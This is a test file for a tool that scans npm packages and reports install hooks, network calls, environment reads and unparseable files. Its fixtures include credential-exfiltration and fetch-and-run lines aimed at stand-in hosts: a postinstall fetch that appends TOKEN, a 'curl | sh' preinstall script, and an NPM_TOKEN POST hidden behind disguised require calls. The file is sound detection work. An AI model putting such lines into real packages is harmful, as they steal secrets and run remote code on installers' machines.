import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultBudget, unpackArtifact } from '../../src/artifacts/unpack/unpack-artifact.ts';
import { buildProfile } from '../../src/profiles/build-profile.ts';
import { buildPackageTarball } from '../support/archive-builder.ts';
import { hiddenCopies } from './mail-server.ts';
import { capabilitiesOf, factsOf, profileOf } from './profile-of.ts';

function manifest(fields: Readonly<Record<string, unknown>>): string {
  return JSON.stringify({ name: 'x', version: '1.0.0', ...fields });
}

function reachesOf(files: Readonly<Record<string, string>>): Record<string, string> {
  const [capability] = capabilitiesOf(profileOf(files), 'code.evaluate');
  return Object.fromEntries((capability?.evidence ?? []).map(({ path, reach }) => [path, reach]));
}

const act = 'eval(x);';

describe('when code runs', () => {
  it('tells apart what installing, importing and calling runs, and what nothing leads to', () => {
    const files = {
      'package.json': manifest({
        main: 'main.js',
        scripts: { postinstall: 'node scripts/setup' },
      }),
      'main.js': `require('./lib/top'); ${act}`,
      'lib/top.js': `exports.f = () => { ${act} };`,
      'lib/alone.js': act,
      'scripts/setup.js': `require('./more.js')`,
      'scripts/more.js': act,
      'test/main.test.js': act,
      'docs/demo.js': act,
    };
    expect(reachesOf(files)).toEqual({
      'scripts/more.js': 'install',
      'main.js': 'import',
      'lib/top.js': 'runtime',
      'lib/alone.js': 'unreached',
      'test/main.test.js': 'test-or-docs',
      'docs/demo.js': 'test-or-docs',
    });
  });

  it('puts the most alarming place first and gives the capability its reach', () => {
    const profile = profileOf({
      'package.json': manifest({ scripts: { install: 'node z.js' }, main: 'a.js' }),
      'a.js': act,
      'z.js': act,
    });
    const [capability] = capabilitiesOf(profile, 'code.evaluate');
    expect(capability?.reach).toBe('install');
    expect(capability?.evidence.map((place) => place.path)).toEqual(['z.js', 'a.js']);
  });

  it.each([
    ['a shell that goes on', 'cd . && node ./x.js'],
    ['another script', 'npm run build'],
    ['Windows and Unix at once', 'start /B node x.js & node x.js'],
    ['a shell script of the package', 'sh setup.sh'],
    ['a preload', 'node -r ./x.js other.js'],
  ])('follows an install script through %s', (_, postinstall) => {
    const files = {
      'package.json': manifest({ scripts: { postinstall, build: 'node x.js' } }),
      'setup.sh': '#!/bin/sh\nset -e\nnode "x.js"\n',
      'x.js': act,
    };
    expect(reachesOf(files)).toEqual({ 'x.js': 'install' });
  });

  it('follows what node-gyp runs while it reads a binding.gyp', () => {
    const files = {
      'package.json': manifest({}),
      'binding.gyp': `{ "targets": [{ "sources": ["<!(node x.js > /dev/null && echo stub.c)"] }] }`,
      'x.js': act,
    };
    expect(reachesOf(files)).toEqual({ 'x.js': 'install' });
    expect(factsOf(profileOf(files), 'install.hook')).toEqual([
      { command: 'node x.js > /dev/null && echo stub.c', script: 'binding.gyp' },
      { command: 'node-gyp rebuild', script: 'install' },
    ]);
  });

  it('reads code that stands in the script itself', () => {
    const profile = profileOf({
      'package.json': manifest({
        scripts: { postinstall: `node -e "fetch('https://collect.example/' + process.env.TOKEN)"` },
      }),
    });
    expect(factsOf(profile, 'environment.read')).toEqual([{ name: 'TOKEN' }]);
    expect(capabilitiesOf(profile, 'network.connect')[0]).toMatchObject({
      attributes: { destination: 'collect.example', scheme: 'https', via: 'fetch' },
      reach: 'install',
      evidence: [{ path: 'package.json' }],
    });
  });

  it('follows commands, patterns of exports, workers and files of any ending that are loaded', () => {
    const files = {
      'package.json': manifest({
        bin: { tool: 'bin/tool' },
        exports: { './*': './public/*.js', '.': './index.mjs' },
      }),
      'bin/tool': `#!/usr/bin/env node\n${act}`,
      'public/one.js': act,
      'index.mjs': `new Worker(new URL('./worker.js', import.meta.url)); require('./data.bin');`,
      'worker.js': act,
      'data.bin': act,
    };
    expect(reachesOf(files)).toEqual({
      'bin/tool': 'import',
      'public/one.js': 'import',
      'data.bin': 'import',
      'worker.js': 'runtime',
    });
  });

  it('knows the tool of a branch, of a list of handlers and of a handler behind a wrapper', () => {
    const source = `
      const tools = [
        { name: 'one', description: '1', inputSchema: { type: 'object' } },
        { name: 'two', description: '2', inputSchema: { type: 'object' } },
        { name: 'three', description: '3', inputSchema: { type: 'object' } },
      ];
      server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools }));
      server.setRequestHandler(CallToolRequestSchema, async (request) => {
        switch (request.params.name) {
          case 'one': return fetch('https://one.example/');
          case 'two': return second(request);
        }
        if (request.params.name === 'three') return fetch('https://three.example/');
        return fetch('https://all.example/');
      });
      function second() { return fetch('https://two.example/'); }
      server.registerTool('four', { description: '4' }, safely(async () => fetch('https://four.example/')));
    `;
    const tools = capabilitiesOf(profileOf({ 'index.js': source }), 'network.connect').map(
      ({ attributes, evidence }) => [attributes['destination'], evidence[0]?.tool],
    );
    expect(Object.fromEntries(tools)).toEqual({
      'one.example': 'one',
      'two.example': 'two',
      'three.example': 'three',
      'four.example': 'four',
      'all.example': undefined,
    });
  });
});

describe('what cannot be looked at is told', () => {
  it('machine code, archives and what does not parse', () => {
    const elf = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    const zip = Uint8Array.from([0x50, 0x4b, 3, 4, 20, 0]);
    const profile = profileOf({
      'index.js': 'let let = ;;; (',
      'build/addon.node': elf,
      'lib/logo.js': elf,
      'assets/pack.zip': zip,
    });
    expect(profile.unread.map(({ path, reason }) => [path, reason])).toEqual([
      ['assets/pack.zip', 'nested-archive'],
      ['build/addon.node', 'native-code'],
      ['index.js', 'parse-failed'],
      ['lib/logo.js', 'native-code'],
    ]);
    expect(factsOf(profile, 'native.binary')).toEqual([
      { format: 'elf' },
      { format: 'elf', mismatch: 'true' },
    ]);
    const languages = profile.files.map(({ path, language }) => [path, language]);
    expect(Object.fromEntries(languages)).toMatchObject({
      'lib/logo.js': 'native',
      'assets/pack.zip': 'archive',
      'index.js': 'javascript',
    });
  });

  it.each([
    ['manifest-invalid', '{"name": '],
    ['manifest-invalid', '[]'],
    ['manifest-invalid', '{"name":"x","scripts":{},"scripts":{"postinstall":"node x.js"}}'],
  ])('%s', (reason, text) => {
    const profile = profileOf({ 'package.json': text, 'index.js': act });
    expect(profile.unread.map((one) => [one.path, one.reason])).toEqual([['package.json', reason]]);
    expect(capabilitiesOf(profile, 'code.evaluate')).toHaveLength(1);
  });

  it('a package without a manifest', () => {
    const tarball = buildPackageTarball({ 'index.js': act });
    const inventory = unpackArtifact(tarball, defaultBudget);
    const { unread } = buildProfile({ digest: '', inventory });
    expect(unread.map((one) => one.reason)).toEqual(['manifest-missing']);
  });

  it('what the unpacker refused, and its oddities', () => {
    const tarball = buildPackageTarball({
      'package.json': manifest({}),
      'big.js': act.repeat(100),
    });
    const inventory = unpackArtifact(tarball, { ...defaultBudget, maxFileBytes: 200 });
    const profile = buildProfile({ digest: '', inventory });
    expect(profile.unread.map((one) => [one.path, one.reason])).toEqual([
      ['big.js', 'budget-file'],
    ]);
    const truncated = unpackArtifact(tarball.subarray(0, tarball.length - 40), defaultBudget);
    expect(buildProfile({ digest: '', inventory: truncated }).unread.length).toBeGreaterThan(0);
  });
});

describe('a profile', () => {
  it('is the same byte for byte, whatever the order of the archive', () => {
    const files = {
      'package.json': manifest({ main: 'a.js', scripts: { postinstall: 'node b.js' } }),
      'a.js': hiddenCopies['an assignment'] ?? '',
      'b.js': 'require("./c"); fetch("https://b.example/");',
      'c.js': 'fetch("https://b.example/"); process.env.A;',
    };
    const reversed = Object.fromEntries(Object.entries(files).toReversed());
    const [one, two, again] = [profileOf(files), profileOf(reversed), profileOf(files)].map(
      (profile) => JSON.stringify(profile),
    );
    expect(again).toBe(one);
    expect(two).toBe(one);
  });

  it('survives being sent as JSON', () => {
    const profile = profileOf({ 'index.js': `fetch('https://c.example/\\ud800');` });
    expect(JSON.parse(JSON.stringify(profile))).toEqual(profile);
  });

  it('lists at most twenty places of one behaviour, and says how many there are', () => {
    const lines = Array.from(
      { length: 30 },
      (_, index) => `export const f${index} = () => eval(x${index});`,
    );
    const [capability] = capabilitiesOf(
      profileOf({ 'index.js': lines.join('\n') }),
      'code.evaluate',
    );
    expect(capability?.evidence).toHaveLength(20);
    expect(capability?.places).toBe(30);
  });

  it('reads shell scripts that a package ships', () => {
    const profile = profileOf({
      'package.json': manifest({ scripts: { preinstall: './get.sh' } }),
      'get.sh': '#!/bin/sh\ncurl -s https://collect.example/x | sh\n',
    });
    expect(capabilitiesOf(profile, 'network.connect')).toMatchObject([
      { attributes: { destination: 'collect.example' }, reach: 'install', evidence: [{ line: 2 }] },
    ]);
    expect(factsOf(profile, 'process.spawn')).toContainEqual({
      command: 'sh',
      fedBy: 'curl',
      shell: 'true',
      via: 'shell',
    });
  });

  it('never throws, whatever the files hold', () => {
    const names = fc.constantFrom(
      'package.json',
      'index.js',
      'a.ts',
      'b.sh',
      'c',
      'binding.gyp',
      'd.json',
    );
    const contents = fc.oneof(
      fc.string(),
      fc.uint8Array({ maxLength: 64 }),
      fc.constantFrom(...Object.values(hiddenCopies)),
      fc.jsonValue().map((value) => JSON.stringify(value)),
    );
    fc.assert(
      fc.property(fc.dictionary(names, contents, { maxKeys: 5 }), (files) => {
        const inventory = unpackArtifact(buildPackageTarball(files), defaultBudget);
        return buildProfile({ digest: '', inventory }).schemaVersion === 1;
      }),
      { numRuns: 60 },
    );
  });
});

it.each([
  ["module.constructor._load(['.', 'lib', 'part'].join('/'), module, false);"],
  ["module['re' + 'quire'](['.', 'lib', 'part'].join('/'));"],
  ["require.bind(null, ['.', 'lib', 'part'].join('/'))();"],
  ["Reflect.apply(require, null, [['.', 'lib', 'part'].join('/')]);"],
])('follows a loader that is spelled otherwise: %s', (code) => {
  const part = "fetch('https://take.example', { method: 'POST', body: process.env.NPM_TOKEN });";
  const { capabilities } = profileOf({ 'index.js': code, 'lib/part.js': part });
  expect(capabilities.find(({ kind }) => kind === 'data.flow')?.reach).toBe('import');
});
